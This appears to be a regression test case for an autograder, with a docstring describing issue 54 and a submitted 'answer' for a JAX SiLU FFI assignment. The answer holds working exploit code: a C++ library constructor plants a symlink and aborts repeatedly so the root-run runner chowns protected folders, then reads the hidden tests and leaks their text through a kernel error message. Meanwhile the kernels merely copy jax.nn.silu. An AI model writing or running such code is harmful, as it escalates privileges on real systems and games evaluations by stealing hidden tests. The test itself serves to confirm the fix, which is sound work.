"""Root chowns what the student points at (issue 54). At each executor start the runner chowned
the executor's tmp folder to it, following a link. The answer's library has a constructor that
acts in the executor only: it finds the runner's folder (its parent's command line: `python -I
-m autograder.runner ROOT`), puts at <home>/tmp a link to the first folder on the way to
ROOT/source/tests it cannot enter (ROOT, then ROOT/source; under make validate also the 0700
temporary folder above ROOT) and aborts; each start chowns that folder to the executor, until
the hidden tests are the executor's to read. Its kernel then fails every run with their text
as its error message, which reached the feedback. It gives up after 4 aborts. The answer is
copy kernels around jax.nn.silu (cheat_copy_kernels_around_jnp: 0). Now the executor's home is
chowned once, before its first start, and the files of /autograder are 0600: no hidden test
text reaches the results.

assignment: silu_ffi
score: 0
absent:
  - "def test_"
  - "from otter.test_files import test_case"
  - "hidden=True"
"""
Path("silu.cc").write_text(r"""
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
#include "xla/ffi/api/ffi.h"
namespace ffi = xla::ffi;

static char leaked[400];   // the hidden tests' text, once the executor can read them (no initializer to run)

static std::string RunnerRoot() {   // the argument after autograder.runner in the parent's command line
  std::ifstream f("/proc/" + std::to_string(getppid()) + "/cmdline");
  std::string arg;
  while (std::getline(f, arg, '\0'))
    if (arg == "autograder.runner" && std::getline(f, arg, '\0') && arg[0] == '/') return arg;
  return "/autograder";
}

static void Leak(const std::string& tests) {   // the import line, then the first hidden test, on one line
  DIR* d = opendir(tests.c_str());
  for (struct dirent* e; d && (e = readdir(d));) {
    std::ifstream f(tests + "/" + e->d_name);
    std::stringstream text;
    text << f.rdbuf();
    std::string s = text.str();
    size_t hidden = s.find("hidden=True");
    if (hidden == std::string::npos) continue;
    size_t start = s.rfind('\n', hidden);
    std::string line = s.substr(0, s.find('\n')) + " ... " + s.substr(start == std::string::npos ? 0 : start + 1, 200);
    for (char& c : line) if (c == '\n') c = ' ';
    snprintf(leaked, sizeof leaked, "%s", line.c_str());
  }
  if (d) closedir(d);
}

__attribute__((constructor)) static void Climb() {
  const char* home = getenv("HOME");
  if (!getenv("JAX_INTEROP_LOADED_LIBRARIES") || !home) return;   // the executor only
  std::string tests = RunnerRoot() + "/source/tests", tmp = std::string(home) + "/tmp", target;
  for (size_t at = 0; target.empty() && at != std::string::npos;) {   // the first folder on the way
    at = tests.find('/', at + 1);                                      // it cannot enter: ROOT, then
    if (access(tests.substr(0, at).c_str(), X_OK) != 0) target = tests.substr(0, at);   // ROOT/source
  }
  if (target.empty()) return Leak(tests);
  for (int i = 0; i < 4; ++i)                      // at most 4 aborts
    if (open((std::string(home) + "/.abort-" + std::to_string(i)).c_str(), O_WRONLY | O_CREAT | O_EXCL, 0600) >= 0) {
      struct stat s;
      if (lstat(tmp.c_str(), &s) == 0)
        S_ISLNK(s.st_mode) ? unlink(tmp.c_str()) : rename(tmp.c_str(), (tmp + ".moved").c_str());
      if (symlink(target.c_str(), tmp.c_str()) == 0) abort();   // the runner starts it again, and chowns tmp
      return;
    }
}

static ffi::Error CopyImpl(ffi::Buffer<ffi::F32> x, ffi::ResultBuffer<ffi::F32> y) {
  if (leaked[0]) return ffi::Error(ffi::ErrorCode::kInternal, leaked);
  for (int64_t i = 0; i < x.element_count(); ++i) y->typed_data()[i] = x.typed_data()[i];
  return ffi::Error::Success();
}
XLA_FFI_DEFINE_HANDLER_SYMBOL(CopyA, CopyImpl,
    ffi::Ffi::Bind().Arg<ffi::Buffer<ffi::F32>>().Ret<ffi::Buffer<ffi::F32>>());
XLA_FFI_DEFINE_HANDLER_SYMBOL(CopyB, CopyImpl,
    ffi::Ffi::Bind().Arg<ffi::Buffer<ffi::F32>>().Ret<ffi::Buffer<ffi::F32>>());
""")
load_and_register("silu.cc", {"copy_forward": "CopyA", "copy_backward": "CopyB"})


def _copy(target, x):
    return jax.ffi.ffi_call(target, jax.ShapeDtypeStruct(x.shape, x.dtype), vmap_method="broadcast_all")(x)


@jax.custom_vjp
def silu_ffi(x):
    return _copy("copy_forward", jax.nn.silu(x))


def _bwd(x, g):
    s = jax.nn.sigmoid(x)
    return (_copy("copy_backward", g * s * (1 + x * (1 - s))),)


silu_ffi.defvjp(lambda x: (silu_ffi(x), x), _bwd)
